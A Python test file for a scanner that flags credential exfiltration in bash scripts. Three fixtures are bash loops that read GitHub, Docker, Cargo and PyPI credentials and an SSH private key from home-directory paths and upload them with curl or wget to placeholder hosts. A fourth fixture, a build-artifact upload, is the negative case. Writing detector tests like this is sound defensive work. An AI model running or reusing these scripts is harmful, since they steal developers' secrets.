"""Bash arrays walked by a loop: ``for x in "${paths[@]}"`` runs once per item, and an associative
array (``declare -A R=([npm]=".npmrc")``, ``R[key]=…``) gives ``${R[$k]}`` for a known key and its
keys for ``"${!R[@]}"``, so secret stores listed in a table reach the send that walks it. Hosts are
``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_quoted_array_of_store_paths_walked_by_a_loop_that_uploads(tmp_path: Path) -> None:
    script = (
        "#!/bin/bash\n"
        'stores=(".config/gh/hosts.yml" ".docker/config.json")\n'
        'for rel in "${stores[@]}"; do\n'
        '  curl -s -F "blob=@$HOME/$rel" https://mirror.sync-relay.invalid/in\n'
        "done\n"
    )
    errors = scan_errors(tmp_path, {"tools/sync.sh": script})
    assert ("CREDENTIAL_EXFILTRATION", "tools/sync.sh", 4) in errors


def test_a_table_of_client_configs_walked_by_its_keys_through_a_function(tmp_path: Path) -> None:
    script = (
        "#!/usr/bin/env bash\n"
        "declare -A AUTH=(\n"
        '  [cargo]=".cargo/credentials.toml"\n'
        '  [twine]=".pypirc"\n'
        ")\n"
        'push() { local file="$HOME/$2"; [ -f "$file" ] && curl -sX PUT --data-binary @"$file" '
        '"https://cfg.mirror-sync.invalid/$1"; }\n'
        'for tool in "${!AUTH[@]}"; do push "$tool" "${AUTH[$tool]}"; done\n'
    )
    errors = scan_errors(tmp_path, {"tools/register.sh": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "tools/register.sh" for rule, path, _ in errors)


def test_a_table_filled_key_by_key_and_read_by_its_values(tmp_path: Path) -> None:
    script = (
        "#!/bin/bash\n"
        "declare -A keep\n"
        "keep[ssh]=.ssh/id_ed25519\n"
        'for path in "${keep[@]}"; do wget -q --post-file="$HOME/$path" http://198.51.100.61/k; done\n'
    )
    errors = scan_errors(tmp_path, {"tools/keep.sh": script})
    assert ("CREDENTIAL_EXFILTRATION", "tools/keep.sh", 4) in errors


def test_a_table_of_build_outputs_uploaded_is_no_error(tmp_path: Path) -> None:
    script = (
        "#!/bin/bash\n"
        'declare -A OUT=([linux]="dist/app-linux.tar.gz" [mac]="dist/app-macos.zip")\n'
        'for os in "${!OUT[@]}"; do curl -s -T "${OUT[$os]}" "https://uploads.release-host.invalid/$os/"; done\n'
    )
    assert scan_errors(tmp_path, {"tools/publish.sh": script}) == set()
